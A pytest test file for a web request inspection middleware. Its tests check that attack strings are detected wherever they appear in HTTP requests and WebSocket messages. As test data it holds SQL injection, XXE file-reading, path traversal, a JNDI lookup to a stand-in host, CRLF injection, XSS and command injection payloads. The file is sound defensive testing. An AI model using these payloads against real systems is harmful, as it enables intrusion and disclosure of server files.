"""Everywhere that a value may stand: also where others do not look."""

from __future__ import annotations

import asyncio
import json
from contextlib import suppress
from typing import Any
from urllib.parse import quote

import pytest
from fastapi import FastAPI, WebSocket
from starlette.testclient import TestClient
from starlette.websockets import WebSocketDisconnect

from buckler.guard import AttackInspection, Guard, Inspection
from tests.guard.asgi import Answer, ask
from tests.guard.inspection.apps import JSON, inspected

BAD = "' or '1'='1"
FORM = {"content-type": "application/x-www-form-urlencoded"}
MULTIPART = {"content-type": "multipart/form-data; boundary=b"}


def multipart(*parts: tuple[str, str]) -> bytes:
    text = "".join(
        f"--b\r\nContent-Disposition: form-data; {said}\r\n\r\n{value}\r\n" for said, value in parts
    )
    return f"{text}--b--\r\n".encode()


def send(*args: Any, **more: Any) -> tuple[Answer, list[tuple[str, str]]]:
    """The answer, and each kind with its place."""
    app, seen = inspected(more.pop("inspection", None))
    answer = asyncio.run(ask(app, *args, **more))
    return answer, [(event.reason, str(event.detail["place"])) for event in seen]


def encoded(text: str, codec: str) -> bytes:
    return json.dumps({"a": text}).encode(codec)


BODIES: dict[str, tuple[dict[str, str], bytes, str]] = {
    "a value": (JSON, json.dumps({"a": BAD}).encode(), "body.a"),
    "deep": (JSON, json.dumps({"items": [1, [], {"name": [BAD]}]}).encode(), "body.items[2].name[0]"),
    "behind others": (JSON, json.dumps({"a": {"b": {"c": 1}}, "d": [{}, {"e": BAD}]}).encode(), "body.d[1].e"),
    "a text alone": (JSON, json.dumps(BAD).encode(), "body"),
    "a list": (JSON, json.dumps(["x", BAD]).encode(), "body[1]"),
    "a name": (JSON, json.dumps({"a": {BAD: 1}}).encode(), "body.a (name)"),
    "a name that came twice": (JSON, f'{{"a": "{BAD}", "a": "x"}}'.encode(), "body.a"),
    "below a name of the caller's": (JSON, json.dumps({"x\n y": {"b": BAD}}).encode(), "body.?.b"),
    "escaped": (JSON, b'{"a": "\\u0027 \\u006fr \\u00271\\u0027=\\u00271"}', "body.a"),
    "+json": ({"content-type": "application/vnd.shop+json"}, encoded(BAD, "utf-8"), "body.a"),
    "no type": ({}, encoded(BAD, "utf-8"), "body.a"),
    "called text": ({"content-type": "text/plain"}, encoded(BAD, "utf-8"), "body.a"),
    "called an image": ({"content-type": "image/png"}, encoded(BAD, "utf-8"), "body.a"),
    "UTF-16": (JSON, encoded(BAD, "utf-16"), "body.a"),
    "behind a BOM": (JSON, b"\xef\xbb\xbf" + encoded(BAD, "utf-8"), "body.a"),
    "half a document": (JSON, b'{"a": "x", "b": [{"c": "' + BAD.encode() + b'"', "body.b[0].c"),
    "a text that does not end": (JSON, b'{"a": "' + BAD.encode(), "body.a"),
    "a text that ends like a document": (JSON, b'{"a": "' + BAD.encode() + b"}", "body.a"),
    "a text that ends in an escape": (JSON, b'{"a": "' + BAD.encode() + b"\\", "body.a"),
    "beside no UTF-8": (JSON, b'{"x": "\xff\xfe", "a": "' + BAD.encode() + b'"}', "body.a"),
    "a field": (FORM, b"x=1&a=" + quote(BAD).encode(), "form.a"),
    "a field that came twice": (FORM, b"a=1&a=" + quote(BAD).encode() + b"&a=2", "form.a"),
    "a field's name": (FORM, b"x=1&" + quote(BAD).encode() + b"=1", "form[1] (name)"),
    "a part": (MULTIPART, multipart(('name="x"', "1"), ('name="a"', BAD)), "form.a"),
    "a part's name": (MULTIPART, multipart((f'name="{BAD}"', "1")), "form[0] (name)"),
    "a file's name": (MULTIPART, multipart((f'name="f"; filename="{BAD}"', "x")), "form.f (file name)"),
    "a file's name, extended": (
        MULTIPART, multipart((f"name=f; filename*=UTF-8''{quote(BAD)}", "x")), "form.f (file name)",
    ),
    "behind a file": (MULTIPART, multipart(('name="f"; filename="a"', "x" * 9000), ('name="a"', BAD)), "form.a"),
}  # fmt: skip


@pytest.mark.parametrize("name", BODIES)
def test_bodies(name: str) -> None:
    headers, body, place = BODIES[name]
    answer, seen = send("POST", "/", headers, body)
    assert answer.status == 200
    assert seen == [("sql", place)]


@pytest.mark.parametrize("name", BODIES)
def test_bodies_in_single_bytes(name: str) -> None:
    headers, body, place = BODIES[name]
    answer, seen = send("POST", "/", headers, [body[n : n + 1] for n in range(len(body))])
    assert (answer.status, answer.body) == (200, str(len(body)).encode())
    assert seen == [("sql", place)]


ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>'


@pytest.mark.parametrize(
    "kind", ["application/xml", "text/xml", "image/svg+xml", "application/json", ""]
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "utf-32"])
def test_xml_whatever_it_is_called_and_however_it_is_written(kind: str, codec: str) -> None:
    headers = {"content-type": kind} if kind else {}
    assert ("xxe", "body") in send("POST", "/", headers, ENTITY.encode(codec))[1]


@pytest.mark.parametrize(
    ("query", "place"),
    [
        (b"a=" + quote(BAD).encode(), "query.a"),
        (b"a=1&a=" + quote(BAD).encode(), "query.a"),
        (b"a=" + quote(BAD).encode() + b"&a=1", "query.a"),
        (quote(BAD).encode() + b"=1", "query[0] (name)"),
        (b"x&" + quote(BAD).encode(), "query[1] (name)"),
        (b"%0d%0ax=" + quote(BAD).encode(), "query[0]"),
        (b"a='+or+'1'='1", "query.a"),
        (b"a=%2527%20or%20%25271%2527=%25271", "query.a"),
    ],
)  # fmt: skip
def test_queries(query: bytes, place: str) -> None:
    assert send("GET", "/", query=query)[1] == [("sql", place)]


def test_lines_in_a_query_are_no_lines_of_a_text() -> None:
    line = "x\r\nX-Forwarded-Host: evil.example"
    assert send("GET", "/", query=b"a=" + quote(line).encode())[1] == [("crlf", "query.a")]
    assert send("POST", "/", JSON, json.dumps({"a": line}).encode())[1] == []


def test_the_two_thousandth_name_of_a_query() -> None:
    app, seen = inspected(query_keys=5000, address="100 KB")
    query = b"&".join(b"k%d=v" % n for n in range(2000)) + b"&last=" + quote(BAD).encode()
    asyncio.run(ask(app, "GET", "/", query=query))
    assert [event.detail["place"] for event in seen] == ["query.last"]


@pytest.mark.parametrize(
    ("path", "sent", "kind"),
    [
        (f"/items/{BAD}", quote(f"/items/{BAD}"), "sql"),
        ("/items/7 or 7=7/x", "/items/7%20or%207=7/x", "sql"),
        ("/items/../../../etc/passwd", "/items/../../../etc/passwd", "traversal"),
        ("/items/../../secret", "/items/%2e%2e/%2e%2e/secret", "traversal"),
        ("/items/\ufffd\ufffd/x", "/items/%c0%ae%c0%ae%c0%afetc/passwd", "traversal"),
    ],
)
def test_paths(path: str, sent: str, kind: str) -> None:
    seen = send("GET", path, raw_path=sent.encode())[1]
    assert [found for found, _ in seen] == [kind]
    assert seen[0][1].startswith("path")


def test_a_path_from_a_server_that_does_not_tell_how_it_was_sent() -> None:
    assert send("GET", f"/items/{BAD}", raw_path=None)[1] == [("sql", "path")]


def test_cookies() -> None:
    assert send("GET", "/", {"cookie": f"a=1; theme={BAD}; b=2"})[1] == [("sql", "cookie.theme")]
    assert send("GET", "/", [("cookie", "a=1"), ("cookie", f"b={BAD}")])[1] == [("sql", "cookie.b")]


def test_headers_that_are_named_and_no_others() -> None:
    lookup = "${jndi:ldap://evil.example/a}"
    assert send("GET", "/", {"user-agent": lookup})[1] == [("lookup", "header.user-agent")]
    assert send("GET", "/", {"referer": lookup})[1] == [("lookup", "header.referer")]
    assert send("GET", "/", {"x-api-version": lookup})[1] == []
    wider = Inspection(headers=["X-Api-Version"])
    twice = [("x-api-version", lookup), ("x-api-version", "1")]
    assert send("GET", "/", twice, inspection=wider)[1] == [("lookup", "header.x-api-version")]


def test_what_is_in_a_file_is_the_file_s() -> None:
    body = multipart(('name="f"; filename="notes.txt"', f"<script>alert(1)</script> {BAD}"))
    assert send("POST", "/", MULTIPART, body)[1] == []


def test_scanners_by_their_names_and_by_what_they_ask_for() -> None:
    assert send("GET", "/", {"user-agent": "sqlmap/1.9#stable (https://sqlmap.org)"})[1] == [
        ("scanner", "header.user-agent")
    ]
    assert send("GET", "/", query=b"q=sqlmap")[1] == []
    for path in ("/.env", "/.git/config", "/wp-login.php", "/actuator/health", "/backup.sql"):
        answer, seen = send("GET", path)
        assert (answer.status, seen) == (404, [("scanner", "path")])
    assert send("GET", "/nothing")[1] == []


def test_a_path_that_is_there_is_no_probe() -> None:
    app = FastAPI()

    @app.get("/actuator")
    async def actuator() -> str:
        return "x"

    seen: list[Any] = []
    Guard(app, hosts=["shop.example"], inspect=Inspection(), events=seen.append)
    assert asyncio.run(ask(app, "GET", "/actuator")).status == 200
    assert [event for event in seen if event.kind == "request.attack_seen"] == []


def chat(inspection: Inspection) -> tuple[FastAPI, list[Any], list[str]]:
    """It, what is seen, and what it heard."""
    app = FastAPI()
    heard: list[str] = []

    @app.websocket("/chat")
    async def talk(socket: WebSocket) -> None:
        await socket.accept()
        with suppress(WebSocketDisconnect):
            while True:
                text = await socket.receive_text()
                heard.append(text)
                await socket.send_text(text)

    seen: list[Any] = []
    Guard(app, hosts=["testserver"], inspect=inspection, events=seen.append)
    return app, seen, heard


def test_messages_of_websockets() -> None:
    app, seen, heard = chat(Inspection())
    with TestClient(app).websocket_connect(f"/chat?room={quote(BAD)}") as socket:
        for text in (
            "hello",
            "<script>alert(1)</script>",
            json.dumps({"a": [{"b": "; cat /etc/passwd"}]}),
        ):
            socket.send_text(text)
            assert socket.receive_text() == text
    assert len(heard) == 3
    assert [(event.reason, event.detail["place"]) for event in seen] == [
        ("sql", "query.room"),
        ("xss", "websocket"),
        ("command", "websocket.a[0].b"),
    ]


def test_websockets_are_closed_where_that_is_wanted() -> None:
    app, seen, heard = chat(Inspection(action="refuse"))
    with TestClient(app).websocket_connect("/chat") as socket:
        socket.send_text("hello")
        socket.receive_text()
        socket.send_text(BAD)
        with pytest.raises(WebSocketDisconnect) as closed:
            socket.receive_text()
    assert closed.value.code == 1008
    assert heard == ["hello"]
    with pytest.raises(WebSocketDisconnect):
        TestClient(app).websocket_connect(f"/chat?room={quote(BAD)}").__enter__()
    assert [event.reason for event in seen] == ["sql", "sql"]


def test_the_part_alone() -> None:
    async def app(scope: Any, receive: Any, send: Any) -> None:
        await receive()
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"done"})

    seen: list[Any] = []
    alone = AttackInspection(app, events=seen.append)
    assert asyncio.run(ask(alone, "POST", "/", JSON, encoded(BAD, "utf-8"))).status == 200
    assert [event.reason for event in seen] == ["sql"]
    refusing = AttackInspection(app, Inspection(action="refuse"))
    assert asyncio.run(ask(refusing, "POST", "/", JSON, encoded(BAD, "utf-8"))).status == 403
    assert asyncio.run(ask(refusing, "POST", "/", JSON, b'{"a": "b"}')).status == 200
